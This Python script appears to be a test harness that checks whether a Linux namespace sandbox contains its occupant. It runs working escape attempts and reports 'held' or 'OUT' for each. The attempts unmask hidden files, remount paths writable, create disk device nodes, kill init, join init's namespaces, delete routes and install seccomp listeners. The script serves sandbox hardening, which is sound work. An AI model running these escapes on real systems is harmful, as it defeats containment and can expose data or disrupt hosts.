# SPDX-License-Identifier: Apache-2.0
"""nested_attacks.py NAME [PATH]: one way out, tried with a user namespace of one's own.

Prints "held: …" with what refused it, "OUT: …" if nothing did. Each begins as a sandbox does:
unshare, map the own uid, and all capabilities within.
"""
import ctypes
import os
import socket
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
NEWTIME, NEWNS, NEWCGROUP, NEWUSER, NEWPID, NEWNET = 0x80, 0x20000, 0x2000000, 0x10000000, 0x20000000, 0x40000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_MOVE, MS_REC, MS_PRIVATE = 1, 32, 4096, 8192, 16384, 1 << 18
MNT_DETACH = 2
X86 = os.uname().machine == "x86_64"
PIVOT_ROOT, OPEN_BY_HANDLE_AT, SECCOMP = (155, 304, 317) if X86 else (41, 265, 277)


def call(name, *args):
    """The call's result; OSError with its errno."""
    args = [a.encode() if isinstance(a, str) else a for a in args]
    r = getattr(libc, name)(*args)
    if r < 0:
        raise OSError(ctypes.get_errno(), "%s: %s" % (name, os.strerror(ctypes.get_errno())))
    return r


def mount(source, target, kind, flags=0, data=None):
    call("mount", source, target, kind, ctypes.c_ulong(flags), data)


def enter(flags):
    uid, gid = os.getuid(), os.getgid()
    call("unshare", NEWUSER | flags)
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write("0 %d 1" % uid)
    open("/proc/self/gid_map", "w").write("0 %d 1" % gid)


def leave_mounts_behind():
    """A root of its own, and nothing else in the namespace."""
    os.makedirs("/tmp/new", exist_ok=True)
    mount("tmpfs", "/tmp/new", "tmpfs")
    os.mkdir("/tmp/new/old")
    call("syscall", ctypes.c_long(PIVOT_ROOT), "/tmp/new", "/tmp/new/old")
    os.chdir("/")
    mount("none", "/old", None, MS_REC | MS_PRIVATE)
    call("umount2", "/old", MNT_DETACH)
    assert os.listdir("/") == ["old"] and not os.listdir("/old")


def in_child(act):
    """In a new pid namespace it takes a child to be in it."""
    pid = os.fork()
    if not pid:
        act()
        os._exit(0)
    os.waitpid(pid, 0)


# --- attacks: what they return is what they got ------------------------------------------------

def move_guard(path):
    """Without the mount that guards it in sight, a name can be moved."""
    directory = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    name = os.path.basename(path)
    enter(NEWNS)
    leave_mounts_behind()
    os.rename(name, name + ".moved", src_dir_fd=directory, dst_dir_fd=directory)
    return "moved"


def remove_guard(path):
    directory = os.open(os.path.dirname(path), os.O_PATH | os.O_DIRECTORY)
    enter(NEWNS)
    leave_mounts_behind()
    os.unlink(os.path.basename(path), dir_fd=directory)
    return "removed"


def move_guard_in_overlay(path):
    enter(NEWNS)
    upper = os.path.dirname(path)
    for d in ("/tmp/lower", "/tmp/merged", upper + ".work"):
        os.makedirs(d, exist_ok=True)
    mount("overlay", "/tmp/merged", "overlay", 0,
          "userxattr,lowerdir=/tmp/lower,upperdir=%s,workdir=%s.work" % (upper, upper))
    os.rename("/tmp/merged/" + os.path.basename(path), "/tmp/merged/moved")
    return "moved"


def uncover(path):
    enter(NEWNS)
    call("umount2", os.path.dirname(path), MNT_DETACH)
    return open(path).read()


def bind_below_mask(path):
    enter(NEWNS)
    os.makedirs("/tmp/home", exist_ok=True)
    home, rest = os.path.dirname(os.path.dirname(path)), "/".join(path.split("/")[-2:])
    mount(home, "/tmp/home", None, MS_BIND)
    return open("/tmp/home/" + rest).read()


def overlay_below_mask(path):
    enter(NEWNS)
    os.makedirs("/tmp/merged", exist_ok=True)
    home, rest = os.path.dirname(os.path.dirname(path)), "/".join(path.split("/")[-2:])
    mount("overlay", "/tmp/merged", "overlay", 0, "userxattr,lowerdir=%s:/tmp" % home)
    return open("/tmp/merged/" + rest).read()


def move_mask(path):
    enter(NEWNS)
    os.makedirs("/tmp/mask", exist_ok=True)
    mount(os.path.dirname(path), "/tmp/mask", None, MS_MOVE)
    return open(path).read()


def detach_and_look(path):
    """Of what is unmounted lazily, what was covered stays covered."""
    home = os.open(os.path.dirname(os.path.dirname(path)), os.O_PATH | os.O_DIRECTORY)
    enter(NEWNS)
    leave_mounts_behind()
    fd = os.open("/".join(path.split("/")[-2:]), os.O_RDONLY, dir_fd=home)
    return os.read(fd, 100)


def remount_writable(path):
    enter(NEWNS)
    mount("none", "/", None, MS_REMOUNT | MS_BIND)
    return open(path, "w")


def write_through_bind(path):
    enter(NEWNS)
    os.makedirs("/tmp/etc", exist_ok=True)
    mount(os.path.dirname(path), "/tmp/etc", None, MS_BIND | MS_REC)
    mount("none", "/tmp/etc", None, MS_REMOUNT | MS_BIND)
    return open("/tmp/etc/" + os.path.basename(path), "w")


def handles(path):
    enter(NEWNS)
    handle = struct.pack("IiQ", 8, 1, 2)
    return call("syscall", ctypes.c_long(OPEN_BY_HANDLE_AT), os.open("/", os.O_RDONLY), handle, os.O_RDONLY)


def fresh_proc(path):
    got = []
    enter(NEWNS | NEWPID)

    def look():
        os.makedirs("/tmp/proc", exist_ok=True)
        mount("proc", "/tmp/proc", "proc")
        for name in ("sys/kernel/core_pattern", "sysrq-trigger", "sys/vm/overcommit_memory", "kcore", "kmsg"):
            for mode in (os.O_WRONLY, os.O_RDONLY) if name[0] == "k" else (os.O_WRONLY,):
                try:
                    os.open("/tmp/proc/" + name, mode)
                    print("OUT: /proc/" + name, flush=True)
                except OSError:
                    pass
        processes = [n for n in os.listdir("/tmp/proc") if n.isdigit()]
        if processes != ["1"]:
            print("OUT: processes", processes, flush=True)

    in_child(look)
    raise PermissionError("nothing in it can be used")


def sysfs(path):
    enter(NEWNS | NEWNET)
    os.makedirs("/tmp/sys", exist_ok=True)
    mount("sysfs", "/tmp/sys", "sysfs")
    return os.listdir("/tmp/sys")


def cgroups(path):
    enter(NEWNS)
    try:
        call("unshare", NEWCGROUP)
        print("OUT: a namespace of cgroups")
    except OSError:
        pass
    os.makedirs("/tmp/cg", exist_ok=True)
    for kind, data in (("cgroup2", None), ("cgroup", "memory"), ("cgroup", "none,name=x")):
        try:
            mount("none", "/tmp/cg", kind, 0, data)
            print("OUT:", kind, data)
        except OSError as e:
            last = e
    raise last


def new_network(path):
    enter(NEWNET)
    s = socket.socket()
    s.settimeout(3)
    s.connect(("192.0.2.1", 80))
    return "connected"


def netlink(kind, body, flags=0):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
    s.bind((0, 0))
    s.send(struct.pack("IHHII", 16 + len(body), kind, 1 | 4 | flags, 1, 0) + body)
    error = struct.unpack("i", s.recv(4096)[16:20])[0]
    if error:
        raise OSError(-error, os.strerror(-error))
    return "done"


def link_down(path):
    """The loopback of the jail's own network, without which nothing is captured."""
    enter(0)
    return netlink(16, struct.pack("BxHiII", 0, 0, 1, 0, 1))  # RTM_NEWLINK, not IFF_UP


def delete_routes(path):
    enter(0)
    return netlink(25, struct.pack("BBBBBBBBI", socket.AF_INET, 0, 0, 0, 254, 0, 0, 2, 0))  # RTM_DELROUTE, local default


def link_into_the_jails_network(path):
    """A pair of interfaces between a network of one's own and the jail's."""
    jail = os.open("/proc/self/ns/net", os.O_RDONLY)
    enter(NEWNET)

    def attribute(kind, data):
        return struct.pack("HH", 4 + len(data), kind) + data + bytes(-len(data) % 4)
    peer = struct.pack("BxHiII", 0, 0, 0, 0, 0) + attribute(28, struct.pack("i", jail))
    info = attribute(18, attribute(1, b"veth\0") + attribute(2, attribute(1, peer)))
    return netlink(16, struct.pack("BxHiII", 0, 0, 0, 0, 0) + info, 0x600)


def join_init(path):
    enter(0)
    for name in ("user", "net", "mnt", "pid"):
        fd = os.open("/proc/1/ns/" + name, os.O_RDONLY)
        call("setns", fd, 0)
    return "joined"


def kill_init(path):
    enter(0)
    os.kill(1, 9)
    if os.path.exists("/proc/1"):
        raise PermissionError("it lives")
    return "killed"


def device(path):
    enter(NEWNS)
    mount("tmpfs", "/tmp", "tmpfs")
    os.mknod("/tmp/disk", 0o60600, os.makedev(254, 0))
    return open("/tmp/disk", "rb").read(1)


def set_user_id(path):
    enter(NEWNS)
    open("/tmp/x", "w").close()
    os.chmod("/tmp/x", 0o4755)
    return "set"


def listener(path):
    """Who answers notifications for others would be asked before the jail is."""
    program = (ctypes.c_ubyte * 8)(6, 0, 0, 0, 0, 0, 0xff, 0x7f)  # return ALLOW

    class Filter(ctypes.Structure):
        _fields_ = [("n", ctypes.c_ushort), ("p", ctypes.c_void_p)]
    enter(0)
    f = Filter(1, ctypes.addressof(program))
    return call("syscall", ctypes.c_long(SECCOMP), 1, 8, ctypes.byref(f))


def main(name, path=None):
    try:
        print("OUT:", globals()[name](path))
    except OSError as e:
        print("held:", e.strerror or e)


main(*sys.argv[1:])
